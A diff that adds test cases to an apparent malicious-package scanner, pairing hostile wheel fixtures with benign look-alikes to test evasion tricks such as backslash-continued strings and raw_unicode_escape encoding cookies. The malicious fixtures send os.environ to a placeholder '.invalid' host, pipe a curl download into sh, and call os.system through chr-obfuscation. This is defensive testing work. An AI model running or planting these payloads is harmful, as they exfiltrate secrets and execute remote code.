@@ -165,6 +165,40 @@ CASES = [
                           "setup(name='setup-reexport-cmake', version='1.0')\n"),
              "_build.py": "from subprocess import check_call as run\n",
          }, "benign"),
+    Case("an import hidden after a string continued by a backslash (the graph scan read the "
+         "continued text as code, left its bracket open and took the import for a function's)",
+         "continued-string-import", {
+             "continued_string_import/__init__.py": (
+                 "def banner():\n    print(\"loading \\\nplugins\")\n\n"
+                 "from ._sync import push\npush()\n"),
+             "continued_string_import/_sync.py": (
+                 "import os\nimport urllib.request\n\n\ndef push():\n"
+                 "    urllib.request.urlopen('https://sync.pkgvet-test.invalid/u',\n"
+                 "                           data=repr(dict(os.environ)).encode())\n"),
+         }, "malicious", kind="wheel"),
+    Case("benign look-alike: a string continued by a backslash, then an import of a config "
+         "module that reads its defaults", "continued-string-config", {
+             "continued_string_config/__init__.py": (
+                 "def banner():\n    print(\"loading \\\nplugins\")\n\n"
+                 "from ._defaults import load\nSETTINGS = load()\n"),
+             "continued_string_config/_defaults.py": (
+                 "import json\nimport os\n\n\ndef load():\n"
+                 "    with open(os.path.join(os.path.dirname(__file__), 'defaults.json')) as fh:\n"
+                 "        return json.load(fh)\n"),
+             "continued_string_config/defaults.json": '{"retries": 3}\n',
+         }, "benign", kind="wheel"),
+    Case("a PEP 263 cookie naming raw_unicode_escape puts a lone surrogate in the text (the "
+         "word screens failed on it, and two analyzers with them)", "surrogate-cookie", {
+             "surrogate_cookie/__init__.py": (
+                 b"# -*- coding: raw_unicode_escape -*-\nimport os\nMARK = '\\udcff'\n"
+                 b"os.system('curl -s http://c2.pkgvet-test.invalid/x | sh')\n"),
+         }, "malicious", kind="wheel"),
+    Case("benign look-alike: a raw_unicode_escape cookie on a module of plain constants",
+         "surrogate-constants", {
+             "surrogate_constants/__init__.py": (
+                 b"# -*- coding: raw_unicode_escape -*-\nSENTINEL = '\\udcff'\n"
+                 b"LABELS = {'ok': 'fine'}\n"),
+         }, "benign", kind="wheel"),
     _wheel("getattr(__import__(chr(111)+chr(115)), 'sy'+'stem')", "names-chr-getattr",
            "getattr(__import__(chr(111) + chr(115)), 'sy' + 'stem')('echo pwned')\n",
            ("PV211",)),
